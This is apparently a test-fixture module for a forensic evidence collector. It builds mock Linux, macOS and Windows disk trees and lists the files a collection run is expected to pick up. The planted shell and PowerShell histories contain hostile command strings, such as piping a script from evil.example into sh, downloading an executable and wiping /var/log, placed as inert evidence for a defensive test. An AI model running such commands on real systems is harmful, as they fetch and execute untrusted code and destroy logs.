"""Root trees that mimic a Linux, a macOS and a Windows system disk, for `--root` collection.

Each builder returns the tree's root and `expected`: every item a default-profile run must
produce, as {original path: (collector, kind)}. Anything else in the tree is there to be left
out (a file no artifact names, a symlink pointing out of the root, an excluded .msf index).
"""

from __future__ import annotations

import gzip
import os
import stat
from pathlib import Path

from tests.support.mail import (
    EML_MESSAGE,
    build_maildir,
    emlx_bytes,
    mbox_bytes,
    write,
)

Expected = dict[str, tuple[str, str]]

OLD_NS = 1_600_000_000 * 1_000_000_000  # 2020-09-13: older than any --since a test uses


def _file(root: Path, rel: str, data: bytes = b"x\n") -> Path:
    return write(root / rel.lstrip("/"), data)


def _symlink(root: Path, rel: str, target: str) -> None:
    path = root / rel.lstrip("/")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)


def _expect_tree(expected: Expected, root: Path, top: str, collector: str, windows: bool = False) -> None:
    """Every entry under `top` (inclusive) as the walker will record it."""
    sep = "\\" if windows else "/"
    base = root / (top[3:].replace("\\", "/") if windows else top.lstrip("/"))
    expected[top] = (collector, "directory")
    for dirpath, dirnames, filenames in os.walk(base):
        rel = Path(dirpath).relative_to(base)
        prefix = top + (sep + sep.join(rel.parts) if rel.parts else "")
        for name in dirnames:
            kind = "symlink" if (Path(dirpath) / name).is_symlink() else "directory"
            expected[prefix + sep + name] = (collector, kind)
        for name in filenames:
            kind = "symlink" if (Path(dirpath) / name).is_symlink() else "file"
            expected[prefix + sep + name] = (collector, kind)


def build_linux_root(base: Path) -> tuple[Path, Expected]:
    root = base / "linux-root"
    e: Expected = {}
    _file(
        root,
        "/etc/passwd",
        b"root:x:0:0:root:/root:/bin/bash\n"
        b"daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
        b"nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n"
        b"alice:x:1000:1000:Alice:/home/alice:/bin/bash\n"
        b"svc:x:998:998:service with home outside /home:/srv/svc:/bin/sh\n",
    )
    _file(root, "/etc/group", b"root:x:0:\nalice:x:1000:\n")
    _file(root, "/etc/os-release", b'ID=debian\nVERSION_ID="12"\n')
    _file(root, "/etc/shadow", b"root:*:19000:0:99999:7:::\n")  # no artifact names it: never collected
    _file(root, "/etc/crontab", b"17 * * * * root run-parts /etc/cron.hourly\n")
    _file(root, "/usr/share/zoneinfo/Europe/Berlin", b"TZif2 fake zone\n")
    # Absolute link inside the image: must resolve inside the root, not on this machine.
    _symlink(root, "/etc/localtime", "/usr/share/zoneinfo/Europe/Berlin")
    for path, coll in {
        "/etc/passwd": "auth/linux-accounts",
        "/etc/group": "auth/linux-accounts",
        "/etc/os-release": "system/linux-system-config",
        "/etc/crontab": "persistence/linux-crontabs",
        "/usr/share/zoneinfo/Europe/Berlin": "system/linux-system-config",
    }.items():
        e[path] = (coll, "file")
    e["/etc/localtime"] = ("system/linux-system-config", "symlink")

    logs = {
        "/var/log/auth.log": b"Oct  1 10:00:00 host sshd[1]: Failed password for root\n",
        "/var/log/auth.log.1": b"older auth\n",
        "/var/log/auth.log.2.gz": gzip.compress(b"oldest auth\n", mtime=0),
        "/var/log/syslog": b"syslog line\n",
        "/var/log/kern.log": b"kernel line\n",
        "/var/log/wtmp": b"\x00" * 384,
        "/var/log/btmp": b"\x01" * 384,
        "/var/log/lastlog": b"\x00" * 292,
        "/var/log/dpkg.log": b"2024-10-01 10:00:00 install evil:amd64 <none> 1.0\n",
        "/var/log/cron.log": b"CRON[1]: (root) CMD (x)\n",
    }
    for path, data in logs.items():
        _file(root, path, data)
    for path, coll in {
        "/var/log/auth.log": "logs/linux-auth",
        "/var/log/auth.log.1": "logs/linux-auth",
        "/var/log/auth.log.2.gz": "logs/linux-auth",
        "/var/log/syslog": "logs/linux-syslog",
        "/var/log/kern.log": "logs/linux-kern",
        "/var/log/wtmp": "logs/linux-login-records",
        "/var/log/btmp": "logs/linux-login-records",
        "/var/log/lastlog": "logs/linux-login-records",
        "/var/log/dpkg.log": "logs/linux-package-logs",
        "/var/log/cron.log": "logs/linux-cron-logs",
    }.items():
        e[path] = (coll, "file")
    _file(root, "/var/log/journal/0123456789abcdef/system.journal", b"LPKSHHRH" + b"\x00" * 56)
    _file(root, "/var/log/journal/0123456789abcdef/user-1000@0001.journal~", b"LPKSHHRH" + b"\x00" * 8)
    _file(root, "/var/log/audit/audit.log", b"type=USER_LOGIN msg=audit(1727776800.000:1): res=failed\n")
    _file(root, "/var/log/apache2/access.log", b'1.2.3.4 - - "GET /wp-login.php" 404\n')
    _file(root, "/var/log/apache2/error.log.1.gz", gzip.compress(b"error\n", mtime=0))
    _file(root, "/var/log/installer/syslog", b"installer\n")  # only /var/log as a whole names it
    _symlink(root, "/var/log/escape", "/etc/shadow")  # recorded as a link, never followed
    _symlink(root, "/var/spool/mail", "../mail")
    _expect_tree(e, root, "/var/log/journal", "logs/linux-journal")
    _expect_tree(e, root, "/var/log/audit", "logs/linux-audit")
    _expect_tree(e, root, "/var/log/apache2", "logs/linux-web-logs")
    e["/var/log"] = ("logs/linux-varlog", "directory")
    e["/var/log/installer"] = ("logs/linux-varlog", "directory")
    e["/var/log/installer/syslog"] = ("logs/linux-varlog", "file")
    e["/var/log/escape"] = ("logs/linux-varlog", "symlink")

    _file(root, "/home/alice/.bash_history", b"curl http://evil.example/x.sh | sh\n")
    _file(root, "/home/alice/.ssh/authorized_keys", b"ssh-ed25519 AAAA attacker\n")
    _file(root, "/home/alice/.ssh/known_hosts", b"evil.example ssh-ed25519 AAAA\n")
    _file(root, "/home/alice/.ssh/id_ed25519", b"PRIVATE KEY: not collected\n")
    _file(root, "/home/alice/notes.txt", b"not named by any artifact\n")
    _file(root, "/srv/svc/.sh_history", b"wget evil\n")  # home only known from /etc/passwd
    _file(root, "/root/.bash_history", b"rm -rf /var/log/*\n")
    _file(root, "/var/spool/cron/crontabs/alice", b"* * * * * /tmp/.x\n")
    for path, coll in {
        "/home/alice/.bash_history": "shell/linux-shell-history",
        "/home/alice/.ssh/authorized_keys": "auth/linux-ssh",
        "/home/alice/.ssh/known_hosts": "auth/linux-ssh",
        "/srv/svc/.sh_history": "shell/linux-shell-history",
        "/root/.bash_history": "shell/linux-shell-history",
    }.items():
        e[path] = (coll, "file")
    _expect_tree(e, root, "/var/spool/cron", "persistence/linux-crontabs")

    # Mail: a system spool mbox (3 messages, one malformed), a Maildir, an .eml, Thunderbird.
    _file(root, "/var/mail/alice", mbox_bytes())
    build_maildir(root / "home/alice/Maildir")
    _file(root, "/home/alice/Documents/invoice.eml", EML_MESSAGE)
    tb = "/home/alice/.thunderbird/abcd1234.default-release/Mail/Local Folders"
    _file(root, tb + "/Inbox", mbox_bytes())
    _file(root, tb + "/Inbox.msf", b'// <!-- <mdb:mork:z v="1.4"/> -->\n')  # excluded index
    _expect_tree(e, root, "/var/mail", "email/linux-mail-spool")
    e["/var/spool/mail"] = ("email/linux-mail-spool", "symlink")
    _expect_tree(e, root, "/home/alice/Maildir", "email/linux-user-mail")
    e["/home/alice/Documents/invoice.eml"] = ("email/linux-user-mail", "file")
    _expect_tree(e, root, "/home/alice/.thunderbird/abcd1234.default-release/Mail", "email/linux-thunderbird")
    del e[tb + "/Inbox.msf"]
    return root, e


def build_macos_root(base: Path) -> tuple[Path, Expected]:
    root = base / "macos-root"
    e: Expected = {}
    _file(root, "/System/Library/CoreServices/SystemVersion.plist", b"<plist>14.5</plist>\n")
    _file(root, "/private/var/log/system.log", b"Oct  1 10:00:00 mac sshd: login\n")
    _file(root, "/private/var/log/asl/2024.10.01.asl", b"ASL DB\n")
    _symlink(root, "/var", "private/var")  # as on a real Mac
    _file(root, "/private/var/db/diagnostics/Persist/0000000000000001.tracev3", b"\x00\x10tracev3")
    _file(root, "/private/var/db/uuidtext/AB/CDEF0123456789ABCDEF0123456789", b"\x99\x88uuidtext")
    _file(root, "/Library/Logs/DiagnosticReports/evil.crash", b"crash\n")
    _file(root, "/Users/alice/.zsh_history", b": 1727776800:0;curl evil | sh\n")
    _file(root, "/Users/alice/Library/Logs/app.log", b"app\n")
    _file(root, "/Users/alice/Library/LaunchAgents/com.evil.agent.plist", b"<plist/>\n")
    _file(root, "/Users/alice/Desktop/budget.xlsx", b"not named by any artifact\n")
    mail = "/Users/alice/Library/Mail/V10/0A1B/INBOX.mbox/Data/Messages"
    _file(root, mail + "/1.emlx", emlx_bytes())
    _file(root, "/private/var/root/.zsh_history", b"sudo su\n")
    _expect_tree(e, root, "/private/var/log", "logs/macos-varlog")
    _expect_tree(e, root, "/private/var/db/diagnostics", "logs/macos-unified-logs")
    _expect_tree(e, root, "/private/var/db/uuidtext", "logs/macos-unified-logs")
    _expect_tree(e, root, "/Library/Logs", "logs/macos-library-logs")
    _expect_tree(e, root, "/Users/alice/Library/Logs", "logs/macos-user-logs")
    _expect_tree(e, root, "/Users/alice/Library/LaunchAgents", "persistence/macos-launch-items")
    _expect_tree(e, root, "/Users/alice/Library/Mail", "email/macos-mail")
    e["/Users/alice/.zsh_history"] = ("shell/macos-shell-history", "file")
    e["/private/var/root/.zsh_history"] = ("shell/macos-shell-history", "file")
    return root, e


def build_windows_root(base: Path) -> tuple[Path, Expected]:
    """An NTFS system drive mounted at the root; names differ in case from the definitions."""
    root = base / "windows-root"
    e: Expected = {}
    logs = "Windows/System32/winevt/Logs"
    for name in ("Security.evtx", "System.evtx", "Microsoft-Windows-PowerShell%4Operational.evtx"):
        _file(root, f"{logs}/{name}", b"ElfFile\x00" + b"\x00" * 24)
        e["C:\\Windows\\System32\\winevt\\Logs\\" + name] = ("logs/windows-event-logs", "file")
    _file(root, f"{logs}/notes.txt", b"not an .evtx\n")
    _file(root, "Windows/Panther/setupact.log", b"setup\n")
    _file(root, "Windows/inf/setupapi.dev.log", b"device install\n")  # lower-case 'inf' on disk
    _file(root, "Windows/System32/Tasks/Updater", b"<Task/>\n")
    ps = "Users/alice/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
    _file(root, ps, b"Invoke-WebRequest http://evil.example -OutFile x.exe\n")
    _file(root, "Users/alice/AppData/Local/Microsoft/Outlook/alice@city.example.ost", b"!BDN" + b"\x00" * 60)
    _file(root, "Users/alice/Documents/Outlook Files/archive.pst", b"!BDN" + b"\x00" * 60)
    _file(root, "Users/alice/Downloads/invoice.msg", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 56)
    _file(root, "Users/alice/Downloads/setup.exe", b"MZ not named by any artifact\n")
    tb = "Users/alice/AppData/Roaming/Thunderbird/Profiles/x1.default/Mail/Local Folders"
    _file(root, tb + "/Inbox", mbox_bytes())
    (root / "ProgramData").mkdir()
    _symlink(root, "Users/All Users", "../ProgramData")  # a junction on NTFS: not a home
    e["C:\\Windows\\Panther"] = ("logs/windows-setup-logs", "directory")
    e["C:\\Windows\\Panther\\setupact.log"] = ("logs/windows-setup-logs", "file")
    e["C:\\Windows\\inf\\setupapi.dev.log"] = ("logs/windows-setup-logs", "file")
    e["C:\\Windows\\System32\\Tasks"] = ("persistence/windows-scheduled-tasks", "directory")
    e["C:\\Windows\\System32\\Tasks\\Updater"] = ("persistence/windows-scheduled-tasks", "file")
    e["C:\\" + ps.replace("/", "\\")] = ("shell/windows-powershell-history", "file")
    for rel in (
        "Users/alice/AppData/Local/Microsoft/Outlook/alice@city.example.ost",
        "Users/alice/Documents/Outlook Files/archive.pst",
        "Users/alice/Downloads/invoice.msg",
    ):
        e["C:\\" + rel.replace("/", "\\")] = ("email/windows-outlook", "file")
    mail = "C:\\Users\\alice\\AppData\\Roaming\\Thunderbird\\Profiles\\x1.default\\Mail"
    e[mail] = ("email/windows-thunderbird", "directory")
    e[mail + "\\Local Folders"] = ("email/windows-thunderbird", "directory")
    e[mail + "\\Local Folders\\Inbox"] = ("email/windows-thunderbird", "file")
    return root, e


def age_tree(root: Path) -> None:
    """Give every file an old mtime and an atime older still, so that a plain read() would move
    the atime even under relatime: a test can then see whether collection touched it."""
    for path in [root, *root.rglob("*")]:
        if not path.is_symlink():
            os.utime(path, ns=(OLD_NS - 10**12, OLD_NS))


def snapshot(root: Path) -> dict[str, tuple[int | None, int, int, int]]:
    """(atime, mtime, ctime, size) of every entry, walked without following any symlink (following
    one moves its atime). A symlink's atime is left out: readlink(2) always calls the kernel's
    touch_atime, so reading the link text moves it once under relatime; nothing avoids that
    short of a noatime mount, and the link text itself is what is preserved."""
    out: dict[str, tuple[int | None, int, int, int]] = {}
    stack = [str(root)]
    while stack:
        top = stack.pop()
        st = os.lstat(top)
        out[top] = (st.st_atime_ns, st.st_mtime_ns, st.st_ctime_ns, st.st_size)
        # Listing a directory moves its atime too, unless read through an O_NOATIME descriptor.
        fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY | os.O_NOATIME)
        try:
            names = os.listdir(fd)
        finally:
            os.close(fd)
        for name in names:
            path = os.path.join(top, name)
            est = os.lstat(path)
            link = stat.S_ISLNK(est.st_mode)
            out[path] = (None if link else est.st_atime_ns, est.st_mtime_ns, est.st_ctime_ns, est.st_size)
            if stat.S_ISDIR(est.st_mode):
                stack.append(path)
    return out
